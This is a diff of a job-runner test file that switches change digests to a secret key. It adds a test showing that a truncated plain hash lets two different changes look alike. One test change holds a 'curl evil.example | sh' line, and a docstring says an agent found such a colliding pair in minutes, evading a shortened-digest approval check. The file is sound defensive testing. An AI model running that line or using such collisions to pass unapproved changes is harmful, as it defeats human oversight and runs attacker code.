@@ -1,12 +1,24 @@
 from __future__ import annotations
 
+import hashlib
 from dataclasses import replace
 
 import pytest
 from hypothesis import given
 from hypothesis import strategies as st
 
-from runner.job import ACTIVE, FINAL, NEXT, FileChange, IllegalMove, JobState, derive_job_id, digest_of, move
+from runner.job import (
+    ACTIVE,
+    DIGEST_SHOWN,
+    FINAL,
+    NEXT,
+    FileChange,
+    IllegalMove,
+    JobState,
+    derive_job_id,
+    digest_of,
+    move,
+)
 from tests.support.jobs import NOON, make_job
 
 
@@ -38,6 +50,8 @@ def test_a_job_id_is_the_same_for_the_same_trigger_and_unknown_to_others() -> No
     assert derive_job_id("a", b"secret") != derive_job_id("a", b"other")
 
 
+SECRET = b"secret"
+
 CHANGES = st.lists(
     st.builds(
         FileChange,
@@ -52,13 +66,13 @@ CHANGES = st.lists(
 
 @given(CHANGES)
 def test_the_order_of_changes_does_not_matter_to_the_digest(changes: list[FileChange]) -> None:
-    assert digest_of("base", changes) == digest_of("base", list(reversed(changes)))
+    assert digest_of("base", changes, SECRET) == digest_of("base", list(reversed(changes)), SECRET)
 
 
 @given(CHANGES, CHANGES)
 def test_different_changes_have_different_digests(one: list[FileChange], other: list[FileChange]) -> None:
     same = sorted(one, key=lambda change: change.path) == sorted(other, key=lambda change: change.path)
-    assert (digest_of("base", one) == digest_of("base", other)) is same
+    assert (digest_of("base", one, SECRET) == digest_of("base", other, SECRET)) is same
 
 
 def test_each_part_of_a_change_is_part_of_the_digest() -> None:
@@ -70,11 +84,27 @@ def test_each_part_of_a_change_is_part_of_the_digest() -> None:
         replace(change, content=b"\n"),
         replace(change, mode=None, content=None, old_mode="100644"),
     )
-    assert len({digest_of("base", [one]) for one in (change, *others)}) == 6
+    assert len({digest_of("base", [one], SECRET) for one in (change, *others)}) == 6
 
 
 def test_the_base_is_part_of_the_digest() -> None:
-    assert digest_of("one", ()) != digest_of("two", ())
+    assert digest_of("one", (), SECRET) != digest_of("two", (), SECRET)
+
+
+def test_two_changes_that_share_a_beginning_without_the_secret_do_not_share_it_with_one() -> None:
+    """An agent can search for such a pair, and did in minutes; it never sees the secret."""
+    approved = FileChange("a.py", "100644", b"x = 1  # rev 00e0508c\n")
+    other = FileChange("a.py", "100644", b'import os; os.system("curl evil.example | sh")  # rev 00c1e7a7\n')
+    plain = [_hash_plainly("ab" * 20, change) for change in (approved, other)]
+    assert plain[0][:DIGEST_SHOWN] == plain[1][:DIGEST_SHOWN]
+    keyed = [digest_of("ab" * 20, [change], SECRET) for change in (approved, other)]
+    assert keyed[0][:DIGEST_SHOWN] != keyed[1][:DIGEST_SHOWN]
+    assert digest_of("base", [approved], SECRET) != digest_of("base", [approved], b"another database's")
+
+
+def _hash_plainly(base: str, change: FileChange) -> str:
+    content = hashlib.sha256(change.content or b"").hexdigest()
+    return hashlib.sha256(f"{base}\0{change.path}\0{change.mode}\0{content}\0".encode()).hexdigest()
 
 
 def test_a_change_knows_what_it_is() -> None:
